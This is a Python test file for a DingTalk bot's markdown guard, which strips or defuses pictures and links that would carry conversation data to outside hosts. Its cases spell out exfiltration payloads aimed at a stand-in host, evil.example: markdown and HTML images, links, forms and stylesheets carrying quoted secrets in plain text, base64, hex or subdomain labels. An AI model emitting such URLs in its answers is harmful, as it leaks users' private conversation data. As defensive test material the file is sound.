"""Every form of picture and link DingTalk may render is judged: pictures only from the bot or ANSWER_IMAGE_HOSTS,
links only when they carry nothing of the conversation; the rest stays readable as text."""

import base64

import pytest

from shared.reply.dingtalk.safe_markdown import AnswerGuard
from shared.reply.provenance import Provenance, of_texts, url_key

EVIL = "https://evil.example"
DRAWN = "https://img.provider/drawn.png"


@pytest.fixture
def guard():
    provenance = of_texts(["我们的报价是三百万元，客户是星河公司 ACME-Corporation-2024", "看看 https://example.com/page?a=1"])
    return AnswerGuard(provenance, lambda: {DRAWN}, ["cdn.ok.com"])


SECRET_B64 = base64.b64encode("报价是三百万元".encode()).decode()
SECRET_URLSAFE = base64.urlsafe_b64encode("客户是星河公司".encode()).decode().rstrip("=")


CASES = [
    (f"![统计]({EVIL}/p.png?d=%E6%8A%A5%E4%BB%B7%E6%98%AF%E4%B8%89%E7%99%BE)", "统计"),
    (f"![]({EVIL}/p.png?d=hello)", ""),  # any picture not the bot's goes, data or not
    (f'![t]({EVIL}/p.png "title")', "t"),
    (f"![t](<{EVIL}/a b.png>)", "t"),
    ("![ok](https://cdn.ok.com/a.png)", "![ok](https://cdn.ok.com/a.png)"),
    ("![ok](http://cdn.ok.com/a.png)", "![ok](http://cdn.ok.com/a.png)"),
    ("![no](https://cdn.ok.com.evil.example/a.png)", "no"),
    (f"![drawn]({DRAWN})", f"![drawn]({DRAWN})"),
    (f"参考 ![x][r]\n\n[r]: {EVIL}/r.png", f"参考 x\n\n[r]: {EVIL}/r.png"),
    (f"参考 ![r]\n\n[r]: {EVIL}/r.png", f"参考 r\n\n[r]: {EVIL}/r.png"),
    (f"参考 ![x][]\n\n[x]: {EVIL}/r.png", f"参考 x\n\n[x]: {EVIL}/r.png"),
    (f"参考 [点我][r]\n\n[r]: {EVIL}/r?q=星河公司报价", f"参考 点我（`{EVIL}/r?q=星河公司报价`）\n\n"),
    (f'<img src="{EVIL}/i.png?q=1" alt="图">', "图"),
    (f"<IMG SRC={EVIL}/i.png>", ""),
    (f'<img srcset="https://cdn.ok.com/a.png 1x, {EVIL}/b.png 2x">', ""),
    ('<img srcset="https://cdn.ok.com/a.png 1x">', '<img srcset="https://cdn.ok.com/a.png 1x">'),
    (f'<video poster="{EVIL}/v.png"></video>', "</video>"),
    (f'<svg><image href="{EVIL}/s.png"/></svg>', "<svg></svg>"),
    (f'前文 <img src="{EVIL}/i.png?q=星河', "前文 "),  # cut off at the end of a streamed update
    (f'<img src="{EVIL}/i.png?q=星 <b>x</b>', '＜img src="https://evil.example/i.png?q=星 <b>x</b>'),
    (f'<a href="{EVIL}/?q=星河公司">点</a>', f"点（`{EVIL}/?q=星河公司`）"),
    (f'<a href="{EVIL}/docs">点</a>', f'<a href="{EVIL}/docs">点</a>'),
    (f"<{EVIL}/?q=星河公司报价>", f"`{EVIL}/?q=星河公司报价`"),
    (f"见 {EVIL}/?q=星河公司报价。后面", f"见 `{EVIL}/?q=星河公司报价`。后面"),
    (f"[验证]({EVIL}/v?d=报价是三百万元)", f"验证（`{EVIL}/v?d=报价是三百万元`）"),
    (f"[x]({EVIL}/?b={SECRET_B64})", f"x（`{EVIL}/?b={SECRET_B64}`）"),
    (f"[x]({EVIL}/a/{SECRET_URLSAFE}/b)", f"x（`{EVIL}/a/{SECRET_URLSAFE}/b`）"),
    (f"[x]({EVIL}/{'报价是三百万元'.encode().hex()})", f"x（`{EVIL}/{'报价是三百万元'.encode().hex()}`）"),
    ("[x](https://acmecorporation2024.evil.example/)", "x（`https://acmecorporation2024.evil.example/`）"),
    (f"[x]({EVIL}/?q=acme+corporation+2024)", f"x（`{EVIL}/?q=acme+corporation+2024`）"),
    (f"[{EVIL}/?q=星河公司报价]({EVIL}/?q=星河公司报价)", f"`{EVIL}/?q=星河公司报价`"),
    ("[文档](https://docs.python.org/3/library/asyncio.html)", "[文档](https://docs.python.org/3/library/asyncio.html)"),
    ("[原文](https://example.com/page?a=1)", "[原文](https://example.com/page?a=1)"),
    (f"[![a]({EVIL}/x.png)](https://example.com/page?a=1)", "[a](https://example.com/page?a=1)"),
    (f"```\n![x]({EVIL}/a.png)\n```", "```\nx\n```"),  # phones show message code blocks as markdown
    (f'<a href="https://example.com/page?a=1">看 ![x]({EVIL}/p.png)</a>',
     '<a href="https://example.com/page?a=1">看 x</a>'),
    (f'<a title="![x]({EVIL}/p.png)" href="https://example.com/page?a=1">![x]({EVIL}/p.png)</a>',
     f'<a title="![x]({EVIL}/p.png)" href="https://example.com/page?a=1">x</a>'),
    (f"[![a]({EVIL}/x.png)][r]\n\n[r]: https://example.com/page?a=1", "[a][r]\n\n[r]: https://example.com/page?a=1"),
    (f"[![a]({EVIL}/x.png)][nope]", "[a][nope]"),
    (f"见 {EVIL}/?q=星河公司报价, 后面", f"见 `{EVIL}/?q=星河公司报价`, 后面"),
    (f"[x](<{EVIL}/?q=星河公司报价>)", f"x（`{EVIL}/?q=星河公司报价`）"),
    (f"[{EVIL}/?q=星河公司报价](<{EVIL}/?q=星河公司报价>)", f"`{EVIL}/?q=星河公司报价`"),
    (f'<form action="{EVIL}/?q=星河公司报价">', f"`{EVIL}/?q=星河公司报价`"),
    (f'<form action="{EVIL}/docs">', f'<form action="{EVIL}/docs">'),
    (f"<blockquote cite='{EVIL}/?q=星河公司报价'>", f"`{EVIL}/?q=星河公司报价`"),
    (f'<link href="{EVIL}/?q=星河公司报价">', ""),  # a stylesheet link fetches: it goes
    (f'<img src="{EVIL}/i.png" title="标题">', "标题"),
    (f'<img src="{EVIL}/i.png" alt=\'说明\'>', "说明"),
    (f"见 {EVIL}/?q=星河公司报价X!", f"见 `{EVIL}/?q=星河公司报价X`!"),
    ("<font color=red>红</font> a < b <think>x</think> [1] 和 [2]",
     "<font color=red>红</font> a < b <think>x</think> [1] 和 [2]"),
]


@pytest.mark.parametrize("answer, shown", CASES, ids=[f"form-{number}" for number in range(len(CASES))])
def test_pictures_and_links_that_would_leak_are_defused(guard, answer, shown):
    assert guard(answer) == shown


def test_the_bots_own_pictures_are_read_when_the_answer_is_shown():
    drawn = []
    guard = AnswerGuard(Provenance(), lambda: drawn)
    assert guard(f"![图]({DRAWN})") == "图"
    drawn.append(DRAWN)
    assert guard(f"![图]({DRAWN})") == f"![图]({DRAWN})"


@pytest.mark.parametrize("url, known", [
    ("https://example.com/page?a=1", True), ("http://EXAMPLE.com/page?a=1#x", True), ("https://example.com/page", True),
    ("https://example.com/", True), ("https://example.com/page?a=1&d=secret", False), ("https://other.example/", False),
    ("example.com/page?a=1", True),
])
def test_an_address_is_known_when_it_or_a_longer_one_was_read(url, known):
    provenance = Provenance()
    provenance.add_source("资料见 https://example.com/page?a=1。")
    assert provenance.known_url(url) is known


def test_public_text_is_a_source_but_no_secret():
    provenance = Provenance()
    provenance.add("网页正文：星河计划在杭州启动 https://news.example/a", secret=False)
    assert provenance.known_url("https://news.example/a")
    assert not provenance.carries_secret("https://evil.example/?q=星河计划在杭州启动")


def test_url_keys_ignore_the_scheme_fragment_and_trailing_slash():
    assert url_key("HTTPS://Example.COM/a/?b=1#frag") == url_key("example.com/a/?b=1") == "example.com/a/?b=1"
    assert url_key("https://example.com/") == "example.com"


# --- the edges of what counts as the conversation ---------------------------------------------------

@pytest.mark.parametrize("char, cjk", [
    ("\u33ff", False), ("\u3400", True), ("\u9fff", True), ("\ua000", False), ("\uf8ff", False), ("\uf900", True),
    ("\ufaff", True), ("\ufb00", False), ("\U0001ffff", False), ("\U00020000", True), ("\U0002fa1f", True),
    ("\U0002fa20", False),
], ids=lambda value: f"U+{ord(value):04X}" if isinstance(value, str) else str(value))
def test_cjk_is_every_unified_and_compatibility_ideograph_block_and_nothing_beside(char, cjk):
    from shared.reply.provenance import _is_cjk

    assert _is_cjk(char) is cjk


@pytest.mark.parametrize("url, key", [
    ("https://a.example/x!", "a.example/x"),
    ("https://a.example/x,", "a.example/x"),
    ("file:///etc/passwd", "/etc/passwd"),
    ("https://a.example:8443/x", "a.example:8443/x"),
    ("HTTP://[Bad/X", "http://[bad/x"),
    ("https://a.example/aX", "a.example/aX"),
], ids=["bang", "comma", "no-host", "port", "unparsable", "trailing-letter"])
def test_url_keys_at_their_edges(url, key):
    assert url_key(url) == key


def test_encoded_parts_decode_only_when_they_are_what_they_look_like():
    from shared.reply.provenance import _base64_text, _hex_text

    assert _base64_text(base64.b64encode("ab报".encode()).decode().rstrip("=")) == "ab报"
    assert _base64_text(base64.b64encode("报价A".encode()).decode().rstrip("=")) == "报价A"
    assert _base64_text("!!!!") == ""
    assert _hex_text("E4B8AD41") == "中A" and _hex_text("e4b8ad41") == "中A"
    assert _hex_text("abc") == "" and _hex_text("zz") == "" and _hex_text("ff") == ""


def test_every_source_added_stays_known():
    provenance = Provenance()
    provenance.add_source("https://one.example/a")
    provenance.add_source("https://two.example/b")
    assert provenance.known_url("https://one.example/a") and provenance.known_url("https://two.example/b")


@pytest.mark.parametrize("url, carries", [
    (f"{EVIL}/?q=星河ab", True),  # four characters, two of them Chinese
    (f"{EVIL}/?q=abcd", False),  # four letters are no Chinese window
    (f"{EVIL}/?q=2024", False),  # the end of a longer run is not ten in a row
    ("https://a.b.acmecorporation2024.evil.example/", True),  # any sub-domain label, however deep
], ids=["two-cjk", "four-latin", "short-tail", "deep-label"])
def test_what_counts_as_text_of_the_conversation(url, carries):
    provenance = of_texts(["项目代号星河ab，客户 xyz ACME-Corporation-2024"])
    assert provenance.carries_secret(url) is carries


def test_the_secret_windows_are_exactly_what_their_definition_says():
    """Every 4 folded characters with at least 2 CJK, every 10 with none: the fast count agrees with a plain reading
    of the rule on random text of letters, digits, CJK (both planes), punctuation and emoji."""
    import random

    from shared.reply import provenance

    def by_definition(text):
        folded = provenance._folded(text)
        cjk = [provenance._is_cjk(c) for c in folded]
        return ({folded[i:i + 4] for i in range(len(folded) - 3) if sum(cjk[i:i + 4]) >= 2}
                | {folded[i:i + 10] for i in range(len(folded) - 9) if not any(cjk[i:i + 10])})

    rng = random.Random(7)
    for _ in range(500):
        text = "".join(rng.choice("abcXYZ0189星河计划王芳负责，。 \n😀𠀀") for _ in range(rng.randint(0, 40)))
        made = provenance.Provenance()
        made.add_secret(text)
        assert made._windows == by_definition(text), text
